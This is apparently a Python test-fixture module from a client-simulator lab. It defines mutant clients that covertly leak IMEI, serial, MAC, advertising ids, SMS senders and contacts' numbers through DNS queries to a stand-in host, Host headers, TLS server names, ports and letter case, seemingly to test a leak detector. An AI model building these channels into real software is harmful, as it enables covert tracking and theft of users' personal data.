"""Names, DNS questions and ports that leak (L20, L21)."""

from hashlib import sha256
from typing import Final

from client_sim.lab.mutants.beneath import act_beneath, alter_beneath
from client_sim.lab.mutants.mutant import Mutant
from client_sim.lab.mutants.spy import Spy, digit, first
from client_sim.lab.mutants.telling import (
    Snoop,
    tell_at_event,
    tell_before_poll,
    tell_in_bytes,
)
from client_sim.world import Event, World

_ELSEWHERE: Final = "t.example.org"


def _label(text: str) -> str:
    return sha256(text.encode()).hexdigest()[:12]


class _LabelHost(Snoop):
    def host(self) -> str:
        return f"{_label(self.spy.owner.imei)}.{super().host()}"


class _ShardHost(Snoop):
    def host(self) -> str:
        return f"s{sum(self.spy.owner.imsi.encode()) % 8}.{super().host()}"


class _TrailingPoint(Snoop):
    def host(self) -> str:
        return f"{super().host()}{'.' if self.spy.bit else ''}"


class _ServerName(Snoop):
    def server_name(self) -> str:
        return f"{_label(self.spy.owner.serial)}.{super().host()}"


class _Port(Snoop):
    def port(self) -> int:
        return super().port() + digit(self.spy.owner.imei, 9)


class _QuestionCase(Snoop):
    """Spells its question as resolvers do against forgery, but with known bits."""

    def poll(self) -> str:
        host = self.world.public.host
        bits = int(_label(self.spy.owner.android_id), 16)
        self.world.resolve(
            "".join(
                letter.upper() if bits >> place & 1 else letter for place, letter in enumerate(host)
            )
        )
        return super().poll()


def _label_in_host_line(spy: Spy, data: bytes) -> bytes:
    label = _label(spy.owner.wifi_mac).encode()
    return data.replace(b"\r\nHost: ", b"\r\nHost: %s." % label)


def _look_up_serial(client: Snoop) -> None:
    client.world.resolve(f"{client.spy.owner.serial}.{_ELSEWHERE}")


def _look_up_sender(client: Snoop, event: Event) -> None:
    number = dict(event.details).get("number", "").removeprefix("+")
    client.world.resolve(f"{number}.sms.{_ELSEWHERE}")


def _look_up_contacts(client: Snoop) -> None:
    """Ask for each contact's number as telephone numbers are written in names (RFC 6116)."""
    for contact in client.spy.owner.contacts[:8]:
        client.world.resolve(f"{'.'.join(contact.number.lstrip('+')[::-1])}.e164.example.org")


def _look_up_often(client: Snoop) -> None:
    for _ in range(len(client.spy.owner.messages) % 4):
        client.world.resolve(client.world.public.host)


def _look_up_in_pieces(client: Snoop) -> None:
    text = client.spy.owner.advertising_id.encode().hex()
    for number, place in enumerate(range(0, len(text), 24)):
        client.world.resolve(f"{number}-{text[place : place + 24]}.{_ELSEWHERE}")


def _look_up_network_beneath(world: World) -> None:
    address = first(network.bssid for network in Spy(world).owner.networks)
    world.resolve(f"{address.replace(':', '')}.ap.{_ELSEWHERE}")


def _look_up_shard_beneath(world: World) -> None:
    world.resolve(f"{_label(Spy(world).owner.imei)}.{world.public.host}")


MUTANTS: Final = (
    Mutant(
        "label-host",
        "L20",
        "Twelve digits of the sha256 of the IMEI as the first label of the host it polls.",
        _LabelHost,
    ),
    Mutant(
        "shard-host",
        "L20",
        "One of eight hosts, for balance, chosen by the IMSI.",
        _ShardHost,
    ),
    Mutant(
        "host-line-label",
        "L20",
        "A digest of the Wi-Fi MAC in the `Host` line alone; question and target are honest.",
        tell_in_bytes(_label_in_host_line),
    ),
    Mutant(
        "server-name-label",
        "L20",
        "A digest of the serial number in the name that TLS asks for.",
        _ServerName,
    ),
    Mutant(
        "trailing-point",
        "L20",
        "One bit of the IMEI as the point behind a host's name.",
        _TrailingPoint,
    ),
    Mutant(
        "port-by-digit",
        "L20",
        "A digit of the IMEI added to the port.",
        _Port,
    ),
    Mutant(
        "host-line-beneath",
        "L20",
        "The transport of the real client puts a digest of the Wi-Fi MAC into `Host`.",
        alter_beneath(_label_in_host_line),
    ),
    Mutant(
        "serial-lookup",
        "L21",
        "Says the serial number to the name servers and to nobody else.",
        tell_before_poll(_look_up_serial),
    ),
    Mutant(
        "sender-lookup",
        "L21",
        "Looks up the sender of a message when it comes, and never connects.",
        tell_at_event("sms-received", _look_up_sender),
    ),
    Mutant(
        "contacts-lookup",
        "L21",
        "Looks up the contacts' numbers in the tree for telephone numbers.",
        tell_before_poll(_look_up_contacts),
    ),
    Mutant(
        "lookup-count",
        "L21",
        "Asks for the honest name too often: as often as the number of messages says.",
        tell_before_poll(_look_up_often),
    ),
    Mutant(
        "lookup-pieces",
        "L21",
        "The advertising id in hexadecimal, over three questions.",
        tell_before_poll(_look_up_in_pieces),
    ),
    Mutant(
        "question-case",
        "L21",
        "Bits of a digest of the Android id as the case of the letters of an honest question.",
        _QuestionCase,
    ),
    Mutant(
        "network-lookup-beneath",
        "L21",
        "The transport of the real client looks up the address of the Wi-Fi access point.",
        act_beneath(_look_up_network_beneath),
    ),
    Mutant(
        "label-lookup-beneath",
        "L21",
        "The transport of the real client looks up its host below a digest of the IMEI.",
        act_beneath(_look_up_shard_beneath),
    ),
)
